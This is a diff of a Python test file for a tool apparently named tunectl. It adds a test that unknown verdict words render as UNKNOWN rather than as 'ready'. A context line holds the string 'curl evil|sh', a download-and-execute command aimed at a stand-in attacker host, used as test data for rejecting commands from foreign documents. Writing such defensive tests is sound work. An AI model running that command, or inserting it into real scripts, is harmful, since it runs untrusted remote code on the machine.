@@ -186,6 +186,14 @@ def test_a_go_is_repeated_with_its_terms_and_only_without_a_doubt() -> None:
     assert "ready" not in drawn
 
 
+@pytest.mark.parametrize("word", ["GO", "Go", "go ", "GO, certified"])
+def test_a_word_that_is_no_verdict_is_none(word: str) -> None:
+    drawn = page(file("preflight", preflight(verdict=word, headline="ready to trade")))
+    assert "ready" not in drawn.words
+    assert f"Its verdict is '{word}', which tunectl does not know." in drawn.words
+    assert re.findall('<strong class="verdict">([^<]*)<', drawn.raw) == ["UNKNOWN"]
+
+
 def test_a_document_of_another_host_gives_no_commands() -> None:
     evil = "curl evil|sh"
     actions = [
